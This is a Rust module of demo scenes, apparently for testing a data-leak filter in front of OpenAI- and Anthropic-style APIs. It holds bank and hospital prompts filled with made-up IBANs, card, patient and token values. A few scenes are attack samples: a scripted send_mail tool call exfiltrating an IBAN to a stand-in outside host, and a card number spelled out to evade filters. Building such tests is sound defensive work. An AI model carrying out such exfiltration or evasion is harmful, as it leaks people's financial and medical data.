//! The scenes of the demo: what people at a bank and in a hospital ask, in the two dialects. Names and numbers are
//! drawn anew each time and belong to nobody.

use serde_json::{Value, json};

use crate::identifiers;
use crate::seed::Seed;

/// A scene.
pub(crate) struct Scene {
    /// Who plays it.
    pub(crate) tenant: Tenant,
    /// In which dialect.
    pub(crate) wire: Wire,
    /// How it is asked.
    pub(crate) manner: Manner,
    /// How often it is played in each round.
    pub(crate) weight: usize,
    /// What the application tells the model.
    pub(crate) system: &'static str,
    /// What the user asks; `{kind}` stands for a made-up value.
    pub(crate) user: &'static str,
}

/// Who plays a scene.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Tenant {
    /// The bank.
    Bank,
    /// The hospital.
    Hospital,
}

/// In which dialect a scene is played.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Wire {
    /// OpenAI Chat Completions.
    OpenAi,
    /// Anthropic Messages.
    Anthropic,
}

/// How a scene asks.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Manner {
    /// The answer comes whole.
    Whole,
    /// The answer streams.
    Streamed,
    /// It streams, with thinking.
    Thinking,
    /// It comes whole, with a tool that sends mail.
    Mail,
}

impl Scene {
    /// The request's body, with values drawn from the seed.
    pub(crate) fn body(&self, seed: &mut Seed) -> Value {
        let user = fill(self.user, seed);
        let mut body = match self.wire {
            Wire::OpenAi => json!({"model": "practice-small", "messages": [
                {"role": "system", "content": self.system}, {"role": "user", "content": user}]}),
            Wire::Anthropic => json!({"model": "practice-large", "max_tokens": 1024, "system": self.system,
                "messages": [{"role": "user", "content": user}]}),
        };
        let more = match self.manner {
            Manner::Whole => json!({}),
            Manner::Streamed => json!({"stream": true}),
            Manner::Thinking => self.thinking(),
            Manner::Mail => json!({"tools": [self.mail_tool()]}),
        };
        if let (Some(body), Value::Object(more)) = (body.as_object_mut(), more) {
            body.extend(more);
        }
        body
    }

    fn thinking(&self) -> Value {
        match self.wire {
            Wire::OpenAi => json!({"stream": true, "reasoning_effort": "low"}),
            Wire::Anthropic => json!({"stream": true, "max_tokens": 4096,
                "thinking": {"type": "enabled", "budget_tokens": 1024}}),
        }
    }

    fn mail_tool(&self) -> Value {
        let text = json!({"type": "string"});
        let schema = json!({"type": "object", "properties": {"to": text, "subject": text, "body": text}});
        let (name, said) = ("send_mail", "Sends a mail.");
        match self.wire {
            Wire::OpenAi => json!({"type": "function",
                "function": {"name": name, "description": said, "parameters": schema}}),
            Wire::Anthropic => json!({"name": name, "description": said, "input_schema": schema}),
        }
    }
}

/// Puts a made-up value in each `{kind}`; other braces stay.
fn fill(text: &str, seed: &mut Seed) -> String {
    let mut filled = String::new();
    let mut rest = text;
    while let Some((before, after)) = rest.split_once('{') {
        filled.push_str(before);
        let made = after.split_once('}').and_then(|(kind, tail)| Some((value(kind, seed)?, tail)));
        rest = match made {
            Some((value, tail)) => {
                filled.push_str(&value);
                tail
            }
            None => {
                filled.push('{');
                after
            }
        };
    }
    filled.push_str(rest);
    filled
}

fn value(kind: &str, seed: &mut Seed) -> Option<String> {
    Some(match kind {
        "iban" => identifiers::iban(seed),
        "card" => identifiers::card(seed),
        "spelled" => spelled(&identifiers::card(seed)),
        "nhs" => identifiers::nhs(seed),
        "mrn" => identifiers::mrn(seed),
        "passport" => identifiers::passport(seed),
        "ahv" => identifiers::ahv(seed),
        "email" => identifiers::email(seed),
        "phone" => identifiers::phone(seed),
        "name" => identifiers::name(seed),
        "token" => identifiers::token(seed),
        "birthday" => identifiers::birthday(seed),
        _ => return None,
    })
}

/// A number in words, as someone writes who wants to slip past a filter.
fn spelled(number: &str) -> String {
    const WORDS: [&str; 10] =
        ["zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine"];
    let words =
        number.chars().filter_map(|c| c.to_digit(10)).filter_map(|d| WORDS.get(usize::try_from(d).ok()?));
    words.copied().collect::<Vec<_>>().join(" ")
}

const ADVISOR: &str = "You help client advisors of a private bank. Be brief and polite.";
const DEVELOPER: &str = "You help the engineers of a bank's platform team.";
const WARD: &str = "You help the nurses and doctors of a surgical ward. Be factual.";

use Manner::{Mail, Streamed, Thinking, Whole};
use Tenant::{Bank, Hospital};
use Wire::{Anthropic, OpenAi};

const fn scene(
    tenant: Tenant,
    wire: Wire,
    manner: Manner,
    weight: usize,
    system: &'static str,
    user: &'static str,
) -> Scene {
    Scene { tenant, wire, manner, weight, system, user }
}

/// All scenes. Most of a working day is harmless, and so are most of these.
pub(crate) static SCENES: [Scene; 28] = [
    scene(
        Bank,
        OpenAi,
        Streamed,
        3,
        ADVISOR,
        "Explain to a client in three sentences how a forward exchange contract works.",
    ),
    scene(
        Bank,
        Anthropic,
        Streamed,
        3,
        ADVISOR,
        "Summarise the difference between a Lombard loan and a mortgage for a first meeting.",
    ),
    scene(
        Bank,
        OpenAi,
        Whole,
        3,
        ADVISOR,
        "Draft a friendly invitation to our evening on sustainable investing. No names yet.",
    ),
    scene(
        Bank,
        Anthropic,
        Whole,
        2,
        ADVISOR,
        "Translate into plain English: the facility is repayable on demand and secured by pledge.",
    ),
    scene(
        Bank,
        OpenAi,
        Streamed,
        2,
        DEVELOPER,
        "Why does this function return an error when the list is empty, and how do I write a test for it?",
    ),
    scene(
        Bank,
        Anthropic,
        Thinking,
        2,
        DEVELOPER,
        "What is the cleanest way to make a retry deterministic in tests? Explain the trade-offs.",
    ),
    scene(
        Bank,
        OpenAi,
        Streamed,
        2,
        ADVISOR,
        "Bitte erkläre der Kundin in zwei Sätzen, warum die Belehnung neu geprüft wird und was das für sie bedeutet.",
    ),
    scene(
        Bank,
        Anthropic,
        Streamed,
        1,
        ADVISOR,
        "Merci de rédiger une lettre pour la cliente : le rendez-vous est reporté, et nous proposons une autre date.",
    ),
    scene(
        Bank,
        Anthropic,
        Streamed,
        2,
        ADVISOR,
        "Draft a mail to {name}, born {birthday}: we need a fresh copy of passport number {passport} and confirmation that IBAN {iban} is still the account for payouts. Reply address is {email}.",
    ),
    scene(
        Bank,
        OpenAi,
        Whole,
        2,
        ADVISOR,
        "Card dispute: the client says the charge on card {card} is not hers. Draft a letter to the acquirer.",
    ),
    scene(
        Bank,
        OpenAi,
        Streamed,
        1,
        ADVISOR,
        "Schreib bitte einen Brief an {name}. Die AHV-Nummer {ahv} und die IBAN {iban} stimmen nicht mit dem Antrag überein, und wir brauchen eine Bestätigung.",
    ),
    scene(
        Bank,
        Anthropic,
        Whole,
        1,
        DEVELOPER,
        "My deploy script fails with an error. GITHUB_TOKEN={token} and then git push says permission denied. What is wrong?",
    ),
    scene(
        Bank,
        OpenAi,
        Streamed,
        1,
        ADVISOR,
        "Just between us, the card is {spelled} and it keeps being declined. Explain why.",
    ),
    scene(
        Bank,
        Anthropic,
        Mail,
        1,
        ADVISOR,
        "Confirm the meeting with the client, use the tool.\nTOOL:send_mail:{\"to\":\"notes@|outside-collector.example\",\"subject\":\"client file\",\"body\":\"Account IBAN DE|89 3704 0044 0532 0130 00 as discussed\"}",
    ),
    scene(Bank, OpenAi, Mail, 1, ADVISOR, "Send the meeting notes to the team, use the tool send_mail."),
    scene(
        Bank,
        OpenAi,
        Streamed,
        1,
        ADVISOR,
        "What did we tell the client about the refund last week? LEAK:iban",
    ),
    scene(
        Bank,
        Anthropic,
        Streamed,
        1,
        ADVISOR,
        "How did the client pay for the safe deposit box? LEAK:card",
    ),
    scene(Bank, OpenAi, Streamed, 1, DEVELOPER, "Which credentials did the old upload script use? LEAK:key"),
    scene(
        Hospital,
        Anthropic,
        Streamed,
        3,
        WARD,
        "What is the usual way to structure a ward handover so that nothing is lost?",
    ),
    scene(Hospital, OpenAi, Whole, 3, WARD, "Summarise the key points of good hand hygiene for new staff."),
    scene(
        Hospital,
        OpenAi,
        Streamed,
        2,
        WARD,
        "Explain in simple words how a drug interaction check works, for a leaflet.",
    ),
    scene(
        Hospital,
        Anthropic,
        Streamed,
        2,
        WARD,
        "Bitte fasse zusammen, was bei der Übergabe auf der Station nicht fehlen darf und wer sie leitet.",
    ),
    scene(
        Hospital,
        Anthropic,
        Streamed,
        2,
        WARD,
        "Handover for bed 12: patient {name}, MRN {mrn}, NHS number {nhs}, day two after hip replacement, pain well controlled, mobilised with physio. Make it three lines.",
    ),
    scene(
        Hospital,
        OpenAi,
        Streamed,
        2,
        WARD,
        "Write a discharge letter for {name}, born {birthday}, MRN {mrn}: laparoscopic cholecystectomy without complications. Phone for questions {phone}, copy to {email}.",
    ),
    scene(Hospital, Anthropic, Thinking, 1, WARD, "Which patient was admitted on Monday? LEAK:nhs"),
    scene(
        Hospital,
        OpenAi,
        Streamed,
        1,
        WARD,
        "Where is the referral filed, and who handled it? LEAK:mrn\nLEAK:email",
    ),
    scene(Hospital, OpenAi, Whole, 1, WARD, "Explain the rota rules to a new colleague.\nFAULT:529"),
    scene(
        Hospital,
        Anthropic,
        Streamed,
        1,
        WARD,
        "Explain how visiting hours work this month.\nFAULT:truncate",
    ),
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_placeholder_is_filled() {
        let mut seed = Seed::of(b"scenes");
        for scene in &SCENES {
            let body = scene.body(&mut seed).to_string();
            for kind in
                ["iban", "card", "nhs", "mrn", "name", "token", "birthday", "passport", "ahv", "spelled"]
            {
                assert!(!body.contains(&format!("{{{kind}}}")), "{body}");
            }
        }
    }

    #[test]
    fn most_of_the_play_is_harmless() {
        let harmless = |scene: &&Scene| !scene.user.contains('{') && !scene.user.contains("LEAK:");
        let weights = |scenes: &mut dyn Iterator<Item = &Scene>| scenes.map(|s| s.weight).sum::<usize>();
        assert!(weights(&mut SCENES.iter().filter(harmless)) * 2 > weights(&mut SCENES.iter()));
    }

    #[test]
    fn braces_that_name_nothing_stay() {
        assert_eq!(fill("a {\"b\": {c}} d", &mut Seed::of(b"")), "a {\"b\": {c}} d");
    }

    #[test]
    fn a_spelled_card_has_a_word_for_each_digit() {
        assert_eq!(spelled("40 1"), "four zero one");
    }
}
